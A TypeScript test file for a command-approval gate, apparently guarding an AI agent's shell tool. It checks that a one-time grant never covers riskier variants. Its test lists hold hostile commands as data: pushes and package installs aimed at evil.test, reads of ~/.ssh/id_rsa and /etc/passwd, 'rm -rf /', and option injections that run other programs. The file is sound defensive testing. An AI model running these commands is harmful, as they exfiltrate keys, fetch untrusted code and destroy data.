import { chmodSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { Access, Action, Gate, Preset } from '../../src/policy/action.ts';
import { createGate } from '../../src/policy/gate.ts';
import { createMemoryStore } from '../../src/store/memory.ts';
import { gateBasics } from '../policy/gate-basics.ts';

let root = '';
let workspace = '';
/** Programs that this machine may not have: only their names and places count. */
const STAND_INS =
  'git npm make python3 node cargo go pytest gh kubectl aws rsync tar curl wget pip yarn pnpm sort find sed zip split install rg jq ssh scp docker uv'.split(
    ' ',
  );

beforeAll(() => {
  // A program below the common temporary directory would be nobody's: it lies in the home directory instead.
  root = realpathSync(mkdtempSync(path.join(os.homedir(), '.granted-')));
  workspace = path.join(root, 'work');
  mkdirSync(path.join(workspace, 'src'), { recursive: true });
  mkdirSync(path.join(root, 'bin'));
  for (const name of STAND_INS) {
    writeFileSync(path.join(root, 'bin', name), '#!/bin/sh\nexit 0\n');
    chmodSync(path.join(root, 'bin', name), 0o755);
  }
});
afterAll(() => rmSync(root, { recursive: true, force: true }));
beforeEach(() => {
  const files = {
    'package.json': '{"scripts":{"test":"true"}}',
    Makefile: 'all:\n\ttrue\n',
    'x.py': '1',
    'x.js': '1',
    'x.sh': 'true',
    'Cargo.toml': '[package]',
    'go.mod': 'module x',
  };
  for (const [name, text] of Object.entries(files)) writeFileSync(path.join(workspace, name), text);
  for (const name of ['.npmrc', 'tsconfig.json']) rmSync(path.join(workspace, name), { force: true });
});

const signal = new AbortController().signal;
const gateOf = (preset: Preset): Gate =>
  createGate({
    sessionId: 'one',
    workspace,
    access: 'full',
    preset,
    home: path.join(root, 'home'),
    ownDirs: [path.join(root, 'state')],
    ownPrograms: [],
    searchPath: async () => `${path.join(root, 'bin')}:/usr/bin:/bin`,
    bash: () => ({ path: '/bin/bash', major: 5 }),
    store: createMemoryStore(),
    ...gateBasics(),
    log: () => {},
  });
const action = (command: string, access: Access = 'workspace-write', cwd = workspace): Action => ({
  kind: 'command',
  tool: 'bash',
  command,
  cwd,
  access,
});

/** Asks about a command and has a person allow it for the session. */
async function grant(gate: Gate, command: string): Promise<string> {
  const asked = await gate.authorize(action(command), { signal });
  if (asked.decision !== 'ask') return `${asked.decision} without a question`;
  if (!asked.approval.grantable) return 'not grantable';
  const answered = await gate.authorize(action(command), { signal, answer: { approvalId: asked.approval.id, choice: 'allow_session' } });
  return `${answered.decision} ${answered.verdict.rule}`;
}
const decisionOf = async (gate: Gate, command: string): Promise<string> => (await gate.explain(action(command))).verdict.decision;

interface Row {
  readonly granted: string;
  readonly preset?: Preset;
  /** Others that the same grant covers. */
  readonly covered?: readonly string[];
  /** Each one runs, redirects, destroys or reaches further, and asks again (or is refused). */
  readonly beyond: readonly string[];
}

const ROWS: readonly Row[] = [
  {
    granted: 'git commit -m x',
    covered: ['git commit -m other', 'git commit -a -m x', 'git commit -m "a b"'],
    beyond: [
      'git commit --no-verify -m x',
      'git commit -n -m x',
      'git commit --amend -m x',
      'git commit -p -m x',
      'git commit --patch -m x',
      'git commit --interactive',
      'git commit -S -m x',
      'git commit --gpg-sign=x -m x',
      'git commit -F ../secret',
      'git commit -F ~/.ssh/id_rsa',
      'git commit --file=/etc/passwd',
      'git commit -t ../x',
      'git commit -m "$(id)"',
      'git commit -m x && make',
      'git commit -m x; git push',
      'git commit -m x | tee .npmrc',
      'git commit -m x > .git/config',
      'git commit $X',
      'git -c core.hooksPath=x commit -m x',
      'git -C ../other commit -m x',
      'git --git-dir=x commit -m x',
      'GIT_DIR=x git commit -m x',
      'GIT_EDITOR=x git commit -m x',
      'A=1 git commit -m x',
      'env GIT_DIR=x git commit -m x',
      'sudo git commit -m x',
      "bash -c 'git commit -m x'",
      './git commit -m x',
      'git "commit" -m x',
      'git push',
      'cd .. && git commit -m x',
    ],
  },
  {
    granted: 'git add src',
    covered: ['git add x.py', 'git add -A'],
    beyond: [
      'git add -p',
      'git add -i',
      'git add -e',
      'git add --patch',
      'git add --edit',
      'git add --pathspec-from-file=x',
      'git add ../x',
      'git add /etc/passwd',
      'git add .env',
      'git add $X',
    ],
  },
  {
    granted: 'git push origin main',
    beyond: [
      'git push --receive-pack=./x origin main',
      'git push --receive-pack ./x origin main',
      'git push --receive=./x origin main',
      'git push --exec=./x origin main',
      'git push --exec ./x origin main',
      'git push origin main --force',
      'git push -f origin main',
      'git push --force-with-lease origin main',
      'git push origin +main',
      'git push origin :main',
      'git push origin -d main',
      'git push --delete origin main',
      'git push --mirror origin',
      'git push --prune origin main',
      'git push --no-verify origin main',
      'git push evil main',
      'git push https://evil.test/x main',
      'git push ext::./x main',
      'git push ssh://-oProxyCommand=x/y main',
      'git push --repo=evil',
      'git push origin other',
      'git push origin main:other',
      'git push --signed origin main',
      'git push -o x origin main',
      'git push --recurse-submodules=on-demand origin main',
      'git -c remote.origin.receivepack=./x push origin main',
      'git -c core.sshCommand=./x push origin main',
      'GIT_SSH_COMMAND=./x git push origin main',
    ],
  },
  {
    granted: 'git fetch origin',
    beyond: [
      'git fetch --upload-pack=./x origin',
      'git fetch --upload-pack ./x origin',
      'git fetch --upload=./x origin',
      'git fetch ext::./x',
      'git fetch evil',
      'git fetch https://evil.test/x',
      'git fetch --recurse-submodules origin',
      'git -c core.gitProxy=./x fetch origin',
      'git fetch --all',
      'git fetch origin +main:main',
    ],
  },
  {
    granted: 'git pull origin main',
    beyond: [
      'git pull --upload-pack=./x origin main',
      'git pull --rebase=interactive origin main',
      'git pull -s ./x origin main',
      'git pull evil main',
      'git pull --no-verify origin main',
    ],
  },
  {
    granted: 'git clone https://example.test/x y',
    beyond: [
      'git clone -u ./x https://example.test/x y',
      'git clone --upload-pack=./x https://example.test/x y',
      'git clone -c core.fsmonitor=./x https://example.test/x y',
      'git clone --config core.fsmonitor=./x https://example.test/x y',
      'git clone --template=./t https://example.test/x y',
      'git clone --recurse-submodules https://example.test/x y',
      'git clone https://evil.test/x y',
      'git clone https://example.test/x ../y',
      'git clone ext::./x y',
    ],
  },
  {
    granted: 'git checkout -b x',
    covered: ['git checkout main'],
    beyond: [
      'git checkout -f main',
      'git checkout --force main',
      'git checkout .',
      'git checkout -- src',
      'git checkout HEAD -- src',
      'git checkout -B x',
    ],
  },
  {
    granted: 'git branch x',
    covered: ['git branch y'],
    beyond: ['git branch -D x', 'git branch -d x', 'git branch -f x', 'git branch -M x', 'git branch --edit-description'],
  },
  {
    granted: 'git tag v1',
    covered: ['git tag v2'],
    beyond: ['git tag -d v1', 'git tag -f v1', 'git tag -s v1', 'git tag -u key v1', 'git tag -v v1', 'git tag -e v1', 'git tag --sign v1'],
  },
  { granted: 'git stash push -m x', beyond: ['git stash drop', 'git stash clear', 'git stash drop -q'] },
  {
    granted: 'git rebase main',
    covered: ['git rebase other'],
    beyond: [
      'git rebase -x id main',
      'git rebase --exec id main',
      'git rebase --exe=id main',
      'git rebase -S main',
      'git rebase --no-verify main',
    ],
  },
  {
    granted: 'git merge main',
    covered: ['git merge other'],
    beyond: ['git merge -S main', 'git merge --no-verify main', 'git merge -F ~/.ssh/id_rsa main'],
  },
  {
    granted: 'git reset HEAD~1',
    covered: ['git reset HEAD'],
    beyond: ['git reset --hard HEAD~1', 'git reset --merge', 'git reset --keep HEAD'],
  },
  { granted: 'git bisect start', beyond: ['git bisect run ./x', 'git bisect run sh -c id', 'git bisect visualize', 'git bisect view'] },
  { granted: 'git am x.patch', beyond: ['git am -S x.patch', 'git am ../x.patch'] },
  {
    granted: 'npm run test',
    beyond: [
      'npm run test --script-shell=./x',
      'npm run test --script-shell ./x',
      'npm run test --script-sh=./x',
      'npm run test -script-shell=./x',
      'npm run --script-shell=./x test',
      'npm --script-shell=./x run test',
      'npm run test --prefix ../x',
      'npm --prefix ../x run test',
      'npm run test --node-options=--require=./x',
      'npm run test --userconfig ./c',
      'npm run test -C ..',
      'npm run test -w x',
      'npm_config_script_shell=./x npm run test',
      'npm run test -- --x',
      'npm run other',
      'NODE_OPTIONS=--require=./x npm run test',
      'cd src && npm run test',
    ],
  },
  { granted: 'npm test', beyond: ['npm test --script-shell=./x', 'npm test -- --x', 'npm test --foo'] },
  {
    granted: 'make',
    beyond: [
      'make all',
      'make -f x',
      'make -C ..',
      'make SHELL=./x',
      'make CC=./x',
      'make --eval=x',
      'make -I x',
      'make --include-dir=x',
      'MAKEFLAGS=x make',
    ],
  },
  {
    granted: 'python3 x.py',
    beyond: [
      'python3 -c 1',
      'python3 -m x',
      'python3 x.py a',
      'python3 -i x.py',
      'python3 -X importtime x.py',
      'python3 ../x.py',
      'PYTHONPATH=. python3 x.py',
      'PYTHONSTARTUP=x python3 x.py',
      'python3 src/x.py',
    ],
  },
  {
    granted: 'node x.js',
    beyond: [
      'node --require ./y x.js',
      'node -r ./y x.js',
      'node --import ./y x.js',
      'node --loader ./y x.js',
      'node -e 1',
      'node --env-file=.env x.js',
      'node --inspect x.js',
      'node x.js a',
      'NODE_OPTIONS=-r./y node x.js',
    ],
  },
  {
    granted: 'bash x.sh',
    beyond: ['bash x.sh a', 'bash -c make', 'bash --rcfile x x.sh', 'bash -x x.sh', 'BASH_ENV=y bash x.sh', 'sh x.sh', 'bash ../x.sh'],
  },
  { granted: 'bash < x.sh', beyond: ['bash < y.sh', 'bash <<< make', 'bash < ../x.sh', 'bash'] },
  { granted: 'make < x.py', beyond: ['make > .npmrc', 'make < ~/.ssh/id_rsa', 'make > ../out'] },
  {
    granted: 'cargo test',
    beyond: [
      'cargo test --config x',
      'cargo --config x test',
      'cargo test --manifest-path ../Cargo.toml',
      'cargo test --target-dir ../x',
      'cargo +evil test',
      'RUSTC_WRAPPER=./x cargo test',
      'cargo test -Z x',
      'cargo run',
    ],
  },
  {
    granted: 'go test ./...',
    beyond: [
      'go test -exec ./x ./...',
      'go test -exec=./x ./...',
      'go test -toolexec ./x ./...',
      'go test -vettool=./x ./...',
      'go test -overlay x ./...',
      'go test -modfile ../x ./...',
      'go test -o ../x ./...',
      'go test -ldflags x ./...',
      'GOFLAGS=-exec=./x go test ./...',
      'go -C .. test ./...',
    ],
  },
  {
    granted: 'pytest src',
    beyond: [
      'pytest -p evil src',
      'pytest -c x src',
      'pytest --rootdir=.. src',
      'pytest -o x=y src',
      'pytest --pdbcls=x:y src',
      'pytest --confcutdir=.. src',
      'pytest --basetemp=.. src',
      'PYTEST_ADDOPTS=-pevil pytest src',
      'pytest ../x',
    ],
  },
  {
    granted: 'gh pr view 1',
    covered: ['gh pr view 2', 'gh pr view 1 --comments'],
    beyond: [
      'gh pr view 1 --web',
      'gh pr view 1 -w',
      'gh pr view 1 -R evil.test/o/r',
      'gh pr view https://evil.test/o/r/pull/1',
      'GH_HOST=evil.test gh pr view 1',
      'gh pr view $X',
      'gh pr view 1 > .npmrc',
      'gh pr merge 1',
      'gh -R o/r pr view 1',
    ],
  },
  {
    granted: 'gh api repos/o/r/pulls',
    covered: ['gh api repos/o/r/issues'],
    beyond: [
      'gh api -X DELETE repos/o/r',
      'gh api repos/o/r/issues -f title=x',
      'gh api repos/o/r/pulls --input .env',
      'gh api --hostname evil.test repos/o/r/pulls',
      'gh api https://evil.test/x',
      'gh api graphql -f query=x',
      'gh api repos/o/r/actions/secrets',
      'gh api -H x:y repos/o/r/pulls',
    ],
  },
  {
    granted: 'kubectl get pods',
    covered: ['kubectl get svc -n web'],
    beyond: [
      'kubectl get pods --kubeconfig ./k',
      'kubectl --kubeconfig=./k get pods',
      'kubectl get pods -s https://evil.test',
      'kubectl get pods --token x',
      'kubectl get pods --as root',
      'kubectl get pods --context other',
      'kubectl get secrets',
      'kubectl get --raw /x',
      'kubectl get -f ./x.yaml',
      'kubectl get -k ./x',
      'KUBECONFIG=./k kubectl get pods',
      'kubectl delete pod x',
    ],
  },
  {
    granted: 'aws s3 ls s3://a',
    covered: ['aws s3 ls s3://b'],
    beyond: [
      'aws s3 ls --endpoint-url http://evil.test',
      'aws s3 ls --profile x',
      'aws s3 ls --no-verify-ssl',
      'aws s3 ls --ca-bundle x',
      'AWS_CONFIG_FILE=./c aws s3 ls',
      'aws --endpoint-url=http://evil.test s3 ls',
      'aws s3 cp x s3://b',
      'aws s3 ls --debug',
    ],
  },
  {
    granted: 'curl https://example.test/x',
    beyond: [
      'curl https://evil.test/x',
      'curl https://example.test/x -o .npmrc',
      'curl -K x https://example.test/x',
      'curl -T f https://example.test/x',
      'curl -d @f https://example.test/x',
      'curl --proxy http://evil.test https://example.test/x',
      'curl -H @f https://example.test/x',
      'curl https://example.test/x https://evil.test',
      'curl --netrc-file x https://example.test/x',
      'curl --unix-socket /x https://example.test/x',
    ],
  },
  {
    granted: 'wget https://example.test/x',
    beyond: [
      'wget -e use_proxy=on https://example.test/x',
      'wget --use-askpass=./x https://example.test/x',
      'wget -O .npmrc https://example.test/x',
      'wget -i x',
      'wget --config=x https://example.test/x',
      'wget --post-file=f https://example.test/x',
    ],
  },
  {
    granted: 'pip install x',
    beyond: [
      'pip install y',
      'pip install -r x',
      'pip install --index-url http://evil.test x',
      'pip install -e .',
      'pip install --target .. x',
      'pip --python ./x install x',
      'PIP_INDEX_URL=http://evil.test pip install x',
    ],
  },
  {
    granted: 'npm install',
    beyond: [
      'npm install x',
      'npm install --registry=http://evil.test',
      'npm install --script-shell=./x',
      'npm install -g',
      'npm install --prefix ..',
    ],
  },
  {
    preset: 'strict',
    granted: 'touch a',
    covered: ['touch b', 'touch src/c'],
    beyond: ['touch ../a', 'touch .npmrc', 'touch ~/x', 'touch $X', 'touch -r ../x a'],
  },
  {
    preset: 'strict',
    granted: 'cp x.py y.py',
    covered: ['cp x.js y.js'],
    beyond: [
      'cp x.py ../y',
      'cp ../x y',
      'cp x.py .npmrc',
      'cp x.py .git/hooks/pre-commit',
      'cp ~/.ssh/id_rsa y',
      'cp -rL src y',
      'cp $X y',
      'cp -t .. x.py',
    ],
  },
  {
    preset: 'strict',
    granted: 'rm y.py',
    covered: ['rm z.py'],
    beyond: ['rm -rf src', 'rm -r src', 'rm ../x', 'rm -rf /', 'rm .git/config', 'rm $X'],
  },
  {
    preset: 'strict',
    granted: 'sed -i s/a/b/ x.py',
    covered: ['sed -i s/c/d/ x.js'],
    beyond: [
      "sed -i 's/a/b/e' x.py",
      "sed -i '1e id' x.py",
      "sed -i 'w ../y' x.py",
      'sed -i -f y x.py',
      "sed -i 's/a/b/w .npmrc' x.py",
      'sed -i s/a/b/ ../x',
      'sed -i s/a/b/ .npmrc',
      'sed -i "$X" x.py',
      "sed -i 'r /etc/passwd' x.py",
    ],
  },
  {
    preset: 'strict',
    granted: 'sort -o y x.py',
    beyond: [
      'sort --compress-program=./x -o y x.py',
      'sort --compress-prog ./x -o y x.py',
      'sort -o ../y x.py',
      'sort -T .. -o y x.py',
      'sort --files0-from=x -o y',
      'sort -o .npmrc x.py',
    ],
  },
  {
    preset: 'strict',
    granted: 'tar cf x.tar src',
    beyond: [
      'tar cf x.tar src --to-command=./x',
      'tar cf x.tar -I ./x src',
      'tar cf x.tar --use-compress-program=./x src',
      'tar cf x.tar --checkpoint-action=exec=./x --checkpoint=1 src',
      'tar cf x.tar --rsh-command=./x src',
      'tar cf h:x src',
      'tar cf x.tar -F ./x src',
      'tar cf x.tar -T ../list',
      'tar cf ../x.tar src',
      'tar cf x.tar ~/.ssh',
      'TAR_OPTIONS=-I./x tar cf x.tar src',
      'tar xf x.tar',
    ],
  },
  {
    preset: 'strict',
    granted: 'split x.py',
    beyond: ['split --filter=./x x.py', 'split --filter ./x x.py', 'split ../x', 'split x.py ../y'],
  },
  {
    granted: 'CI=1 npm test',
    beyond: ['CI=2 npm test', 'npm test', 'CI=1 A=1 npm test', 'CI=1 npm run x', 'CI=$x npm test', 'NODE_OPTIONS=-r=./x CI=1 npm test'],
  },
  {
    preset: 'strict',
    granted: 'zip y.zip x.py',
    beyond: ['zip y.zip x.py -T -TT ./x', 'zip y.zip x.py -T --unzip-command ./x', 'zip ../y.zip x.py', 'zip -r y.zip ~/.ssh'],
  },
  {
    preset: 'strict',
    granted: 'install -m 644 x.py y.py',
    beyond: [
      'install -m 4755 x.py y.py',
      'install -s --strip-program=./x x.py y.py',
      'install -o root x.py y.py',
      'install x.py /usr/local/bin/y',
    ],
  },
  {
    preset: 'strict',
    granted: 'mkdir -p a/b',
    covered: ['mkdir c'],
    beyond: ['mkdir ../a', 'mkdir .git/x', 'mkdir -p ~/.ssh/x', 'mkdir $X'],
  },
  {
    preset: 'strict',
    granted: 'git format-patch -1 -o out',
    beyond: [
      'git format-patch -1 --ext-diff -o out',
      'git format-patch -1 --textconv',
      'git format-patch -1 -o ..',
      'git format-patch -1 --output=../x',
      'git format-patch -1 -o .git/hooks',
    ],
  },
];

describe('a grant covers what was granted and nothing that runs, redirects or destroys', () => {
  test.each(ROWS.map((row) => [row.granted, row] as const))('%s', async (_, { granted, preset = 'standard', covered = [], beyond }) => {
    const gate = gateOf(preset);
    const before = await Promise.all([granted, ...covered].map((command) => decisionOf(gate, command)));
    expect(before).toEqual([granted, ...covered].map(() => 'ask'));
    expect(await grant(gate, granted)).toBe('allow approval:allow_session');
    const after = await Promise.all([granted, ...covered].map(async (command) => `${await decisionOf(gate, command)} ${command}`));
    expect(after).toEqual([granted, ...covered].map((command) => `allow ${command}`));
    const allowed = [];
    for (const command of beyond) if ((await decisionOf(gate, command)) === 'allow') allowed.push(command);
    expect(allowed).toEqual([]);
  });
});

describe('a grant for code of the workspace holds while what it runs is the same', () => {
  test.each([
    ['npm test', 'package.json', '{"scripts":{"test":"id"}}'],
    ['npm test', '.npmrc', 'script-shell=./x'],
    ['npm run test', 'package.json', '{"scripts":{"pretest":"id"}}'],
    ['npm install', '.npmrc', 'registry=http://evil.test'],
    ['make', 'Makefile', 'all:\n\tid\n'],
    ['make', 'GNUmakefile', 'all:\n\tid\n'],
    ['python3 x.py', 'x.py', '2'],
    ['node x.js', 'x.js', '2'],
    ['node x.js', 'package.json', '{"type":"module"}'],
    ['bash x.sh', 'x.sh', 'id'],
    ['cargo test', 'Cargo.toml', '[package]\nbuild = "evil.rs"'],
    ['go test ./...', 'go.mod', 'module y'],
  ])('%s, then %s is written', async (granted, file, text) => {
    rmSync(path.join(workspace, 'GNUmakefile'), { force: true });
    const gate = gateOf('standard');
    expect(await grant(gate, granted)).toBe('allow approval:allow_session');
    expect(await decisionOf(gate, granted)).toBe('allow');
    writeFileSync(path.join(workspace, file), text);
    expect(await decisionOf(gate, granted)).toBe('ask');
    rmSync(path.join(workspace, 'GNUmakefile'), { force: true });
  });
});

describe('a grant ends where its bounds end', () => {
  test('another access, another directory, another session', async () => {
    const gate = gateOf('standard');
    expect(await grant(gate, 'make')).toBe('allow approval:allow_session');
    const decide = async (one: Action) => (await gate.explain(one)).verdict.decision;
    expect(await decide(action('make'))).toBe('allow');
    expect(await decide(action('make', 'read-only'))).toBe('deny');
    expect(await decide(action('make', 'full'))).toBe('ask');
    expect(await decide(action('make', 'workspace-write', path.join(workspace, 'src')))).toBe('ask');
    expect(await decisionOf(gateOf('standard'), 'make')).toBe('ask');
    gate.dropGrants();
    expect(await decide(action('make'))).toBe('ask');
  });

  test.each([
    'git push --force origin main',
    'git push --receive-pack=./x origin main',
    'git reset --hard',
    'git clean -fd',
    'git branch -D x',
    'git commit --amend',
    'git config core.pager x',
    'git -c a.b=c commit -m x',
    'npm run test --script-shell=./x',
    'npm publish',
    'sudo make',
    'ssh h',
    'docker run x',
    'curl -K x',
    'rm -rf src/x',
    'echo x > .npmrc',
    'kill 1',
    'crontab x',
    'eval "$x"',
    'make "$x"',
    'A=$x make',
    'CC=./x make',
    'NODE_OPTIONS=-r=./x npm test',
    'FROB=1 make',
    'rsync -a -e ./x src/ y/',
    'rsync -a --rsh=./x src/ h:y',
    'mv x.py y.py && make',
  ])('%s may not be granted for longer than once', async (command) => {
    // What strict asks about, too: the answer is the same under each preset that asks.
    expect(await grant(gateOf('strict'), command)).toBe('not grantable');
  });
});
